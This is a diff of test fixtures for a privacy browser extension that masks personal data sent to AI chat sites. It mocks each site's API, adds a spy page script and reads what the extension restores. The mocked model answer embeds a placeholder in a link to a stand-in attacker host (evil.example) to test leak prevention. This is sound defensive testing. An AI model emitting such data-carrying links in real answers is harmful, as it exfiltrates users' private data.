@@ -53,6 +53,8 @@ export async function fixtureBundles() {
     'quill.js': readFileSync(join(out, 'quill.js'), 'utf8'),
     'textarea.js': readFileSync(join(out, 'textarea.js'), 'utf8'),
     'contenteditable.js': readFileSync(join(out, 'contenteditable.js'), 'utf8'),
+    // Not bundled: a classic script the page runs before everything else (fixtures/src/spy.js).
+    'spy.js': readFileSync(join(FIXTURES, 'src', 'spy.js'), 'utf8'),
     'prosemirror.css': readFileSync(join(FIXTURES, 'node_modules', 'prosemirror-view', 'style', 'prosemirror.css'), 'utf8'),
     'quill.css': readFileSync(join(FIXTURES, 'node_modules', 'quill', 'dist', 'quill.core.css'), 'utf8'),
   };
@@ -66,19 +68,22 @@ export const NO_WASM_CSP = "default-src 'self'; script-src 'self'; object-src 'n
 export const SITES = {
   chatgpt: { origin: 'https://chatgpt.com', path: (c) => `/c/${c}`, api: '/backend-api/conversation', kind: 'prosemirror', editorId: 'prompt-textarea', send: '<button id="send" data-testid="send-button" aria-label="Send prompt">Send</button>' },
   claude: { origin: 'https://claude.ai', path: (c) => `/chat/${c}`, api: '/api/organizations/org-1/chat_conversations', format: 'claude', kind: 'prosemirror', editorId: 'claude-input', send: '<button id="send" aria-label="Send message">Send</button>', answerClass: 'font-claude-message' },
-  gemini: { origin: 'https://gemini.google.com', path: (c) => `/app/${c}`, api: '/_/BardChatUi/data/StreamGenerate', kind: 'quill', send: '<button class="send-button" aria-label="Send message">Send</button>', answerTag: 'message-content' },
-  copilot: { origin: 'https://copilot.microsoft.com', path: (c) => `/chats/${c}`, api: '/c/api/conversations', kind: 'contenteditable', send: '<button id="send" type="button" aria-label="Submit message">Send</button>' },
-  deepseek: { origin: 'https://chat.deepseek.com', path: (c) => `/a/chat/s/${c}`, api: '/api/v0/chat/completion', kind: 'textarea', send: '<button id="send" type="button" aria-label="Send">Send</button>' },
+  gemini: { origin: 'https://gemini.google.com', path: (c) => `/app/${c}`, api: '/_/BardChatUi/data/assistant.lamda.BardFrontendService/StreamGenerate', format: 'gemini', kind: 'quill', send: '<button class="send-button" aria-label="Send message">Send</button>', answerTag: 'message-content' },
+  copilot: { origin: 'https://copilot.microsoft.com', path: (c) => `/chats/${c}`, api: '/c/api/conversations', format: 'copilot', kind: 'contenteditable', send: '<button id="send" type="button" aria-label="Submit message">Send</button>' },
+  deepseek: { origin: 'https://chat.deepseek.com', path: (c) => `/a/chat/s/${c}`, api: '/api/v0/chat/completion', format: 'deepseek', kind: 'textarea', send: '<button id="send" type="button" aria-label="Send">Send</button>' },
+  perplexity: { origin: 'https://www.perplexity.ai', path: (c) => `/search/${c}`, api: '/rest/sse/perplexity_ask', format: 'perplexity', kind: 'textarea', send: '<button id="send" type="button" aria-label="Submit">Ask</button>' },
 };
 
 function page(site, conv) {
   const s = SITES[site];
   const composer = s.kind === 'textarea' ? '<textarea id="prompt" rows="4" cols="60" aria-label="Message"></textarea>' : '<div id="composer"></div>';
   const css = s.kind === 'prosemirror' ? '<link rel="stylesheet" href="/fixture/prosemirror.css">' : s.kind === 'quill' ? '<link rel="stylesheet" href="/fixture/quill.css">' : '';
-  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${site} fixture</title>${css}
+  // A conversation named spy-… gets the page script that tries to read restored values.
+  const spy = conv.startsWith('spy-') ? '<script src="/fixture/spy.js"></script>' : '';
+  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${site} fixture</title>${spy}${css}
 <link rel="stylesheet" href="/fixture/page.css"></head>
 <body data-conv="${conv}" data-api="${s.api}" data-format="${s.format ?? 'chatgpt'}" data-editor-id="${s.editorId ?? ''}" data-answer-tag="${s.answerTag ?? 'div'}" data-answer-class="${s.answerClass ?? ''}">
-<main><h1>${site} (test fixture)</h1><div id="thread"></div>${composer}${s.send}</main>
+<main><h1>${site} (test fixture)</h1><div id="thread"></div>${composer}${s.send}<input type="file" id="file" multiple hidden aria-label="Attach files"></main>
 <script type="module" src="/fixture/${s.kind}.js"></script></body></html>`;
 }
 
@@ -88,16 +93,66 @@ const PAGE_CSS = `body{font:16px/1.5 system-ui,sans-serif;margin:24px;max-width:
 #composer,#prompt{border:1px solid #888;border-radius:8px;padding:8px;min-height:48px;width:100%;box-sizing:border-box;font:inherit}
 .ProseMirror{outline:none}button{margin-top:8px;font:inherit}`;
 
+/**
+ * The sites' request bodies as their web clients send them (fixtures/src/chat.js writes them):
+ * body → { conv, text }. The conversation sits where each site's client puts it (Gemini: the
+ * first of the conversation ids in inner[2]; Perplexity: last_backend_uuid).
+ */
+const REQUESTS = {
+  chatgpt: (body) => {
+    const j = JSON.parse(body);
+    return { conv: j.conversation_id, text: j.messages.map((m) => m.content.parts.join('\n')).join('\n') };
+  },
+  claude: (body) => ({ conv: null, text: JSON.parse(body).prompt }),
+  deepseek: (body) => {
+    const j = JSON.parse(body);
+    return { conv: j.chat_session_id, text: j.prompt };
+  },
+  perplexity: (body) => {
+    const j = JSON.parse(body);
+    return { conv: j.params.last_backend_uuid, text: j.query_str };
+  },
+  gemini: (body) => {
+    const inner = JSON.parse(JSON.parse(new URLSearchParams(body).get('f.req'))[1]);
+    return { conv: inner[2][0], text: inner[0][0] };
+  },
+};
+
 const TOKEN = /\[[A-Z][A-Z0-9_]*_\d+\]/g;
 
 /**
  * Routes every fixture site. Returns the backend: `received` holds each request body the site's
- * API got; each conversation's history is kept, so a reload renders it again.
+ * API got, `uploads` each file the page uploaded; each conversation's history is kept, so a reload renders it again.
  */
 export async function routeSites(context) {
   const b = await fixtureBundles();
   const received = [];
+  const uploads = [];
   const history = new Map();
+  /** The model's answer to `text`: it repeats the placeholders, once inside a link. */
+  const reply = (conv, text) => {
+    const tokens = [...new Set(text.match(TOKEN) ?? [])];
+    const answer = tokens.length
+      ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
+      : 'Nothing to protect there.';
+    const id = conv === 'new' ? `gen-${history.size + 1}` : conv;
+    const h = history.get(id) ?? [];
+    h.push({ role: 'user', text }, { role: 'assistant', text: answer });
+    history.set(id, h);
+    return { answer, conversation_id: id };
+  };
+  // Copilot's chat socket: {"event":"send",…} frames in, appendText and done frames out.
+  await context.routeWebSocket(/^wss:\/\/copilot\.microsoft\.com\/c\/api\/chat/, (ws) => {
+    ws.onMessage((frame) => {
+      const j = JSON.parse(String(frame));
+      if (j.event !== 'send') return;
+      const text = j.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');
+      received.push({ site: 'copilot', body: String(frame), conv: j.conversationId, text });
+      const { answer } = reply(j.conversationId, text);
+      ws.send(JSON.stringify({ event: 'appendText', text: answer }));
+      ws.send(JSON.stringify({ event: 'done' }));
+    });
+  });
   for (const [site, s] of Object.entries(SITES)) {
     await context.route(`${s.origin}/**`, async (route) => {
       const req = route.request();
@@ -108,23 +163,25 @@ export async function routeSites(context) {
         if (!b[name]) return route.fulfill({ status: 404, body: '' });
         return route.fulfill({ contentType: name.endsWith('.css') ? 'text/css' : 'text/javascript', body: b[name] });
       }
-      // ChatGPT-style bodies at the API path; Claude-style ({ prompt }) at <api>/<conversation>/completion.
+      // Attached files: the fixture uploads each as it is attached (fixtures/src/chat.js).
+      if (url.pathname === '/upload' && req.method() === 'POST') {
+        uploads.push({ site, name: url.searchParams.get('name'), text: req.postData() ?? '' });
+        return route.fulfill({ contentType: 'application/json', body: '{"ok":true}' });
+      }
+      // Each site's own request shape (REQUESTS); Claude posts at <api>/<conversation>/completion.
       const claudePost = s.format === 'claude' && url.pathname.startsWith(`${s.api}/`) && url.pathname.endsWith('/completion');
       if ((url.pathname === s.api || claudePost) && req.method() === 'POST') {
         const body = req.postData() ?? '';
-        const parsed = JSON.parse(body);
-        if (claudePost) parsed.conversation_id = url.pathname.slice(s.api.length + 1, -'/completion'.length);
-        const text = claudePost ? parsed.prompt : parsed.messages.map((m) => m.content.parts.join('\n')).join('\n');
+        let read;
+        try {
+          read = REQUESTS[s.format ?? 'chatgpt'](body);
+        } catch {
+          return route.fulfill({ status: 400, body: '' });
+        }
+        const { conv: sent, text } = read;
+        const parsed = { conversation_id: claudePost ? url.pathname.slice(s.api.length + 1, -'/completion'.length) : sent };
         received.push({ site, body, conv: parsed.conversation_id, text });
-        const tokens = [...new Set(text.match(TOKEN) ?? [])];
-        const answer = tokens.length
-          ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
-          : 'Nothing to protect there.';
-        const id = parsed.conversation_id === 'new' ? `gen-${history.size + 1}` : parsed.conversation_id;
-        const h = history.get(id) ?? [];
-        h.push({ role: 'user', text }, { role: 'assistant', text: answer });
-        history.set(id, h);
-        return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ answer, conversation_id: id }) });
+        return route.fulfill({ contentType: 'application/json', body: JSON.stringify(reply(parsed.conversation_id, text)) });
       }
       if (url.pathname.startsWith(`${s.api}/`) && req.method() === 'GET') {
         const conv = url.pathname.slice(s.api.length + 1);
@@ -137,7 +194,15 @@ export async function routeSites(context) {
       return route.fulfill({ status: 404, body: '' });
     });
   }
-  return { received, history };
+  return { received, uploads, history };
+}
+
+/** Opens `site`'s fixture page of conversation `conv` once its composer is ready. */
+export async function openSite(context, site, conv) {
+  const page = await context.newPage();
+  await page.goto(SITES[site].origin + SITES[site].path(conv));
+  await page.waitForFunction(() => typeof globalThis.editorText === 'function');
+  return page;
 }
 
 export const ARGS = ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
@@ -202,4 +267,59 @@ export async function until(fn, timeout = 15000) {
     if (Date.now() > end) throw new Error('timed out waiting');
     await new Promise((r) => setTimeout(r, 100));
   }
+}
+
+/**
+ * Runs `fn(arg)` in the extension's content-script world of `page` (the isolated world, where
+ * `chrome.dom.openOrClosedShadowRoot` reaches the closed shadow roots it attached), through
+ * the DevTools protocol: what the extension itself sees, which the page's own scripts cannot.
+ */
+export async function inExtension(context, page, fn, arg) {
+  const cdp = await context.newCDPSession(page);
+  try {
+    const worlds = [];
+    cdp.on('Runtime.executionContextCreated', (e) => worlds.push(e.context));
+    await cdp.send('Runtime.enable');
+    const { frameTree } = await cdp.send('Page.getFrameTree');
+    const world = worlds.find((w) => w.auxData?.frameId === frameTree.frame.id && w.auxData?.type === 'isolated' && w.origin.startsWith('chrome-extension://'));
+    if (!world) throw new Error('no content-script world in this page');
+    const { result, exceptionDetails } = await cdp.send('Runtime.evaluate', {
+      expression: `(${fn})(${JSON.stringify(arg ?? null)})`, contextId: world.id, awaitPromise: true, returnByValue: true,
+    });
+    if (exceptionDetails) throw new Error(`in the extension's world: ${exceptionDetails.exception?.description ?? exceptionDetails.text}`);
+    return result.value;
+  } finally {
+    await cdp.detach();
+  }
+}
+
+/**
+ * What the user sees in the answers (`selector`), as the extension draws it: the text of the
+ * flat tree, a restored value read from its marker's closed shadow root (drawn there as generated
+ * content); `restored` lists those values, each with its size on screen and its marker's.
+ */
+export function shownAnswers(context, page, selector = '#thread .assistant') {
+  return inExtension(context, page, (sel) => {
+    const restored = [];
+    const text = (node) => {
+      if (node.nodeType === Node.TEXT_NODE) return node.data;
+      const root = node instanceof Element ? chrome.dom.openOrClosedShadowRoot(node) : null;
+      if (root && node.classList.contains('pii-airlock-restored')) {
+        // The value is the generated content of the root's first element (never text there).
+        const drawn = root.firstElementChild;
+        const value = getComputedStyle(drawn, '::before').content.slice(1, -1).replace(/\\(.)/g, '$1');
+        const box = drawn.getBoundingClientRect();
+        restored.push({ value, width: box.width, height: box.height, hostWidth: node.getBoundingClientRect().width, rootText: root.textContent });
+        return value;
+      }
+      return [...(root ?? node).childNodes].map(text).join('');
+    };
+    const answers = [...document.querySelectorAll(sel)];
+    return {
+      text: answers.map(text).join('\n'),
+      restored,
+      links: answers.flatMap((a) => [...a.querySelectorAll('a')].map((l) => [l.href, l.textContent])),
+      titles: answers.flatMap((a) => [...a.querySelectorAll('.pii-airlock-restored')].map((m) => m.title)),
+    };
+  }, selector);
 }
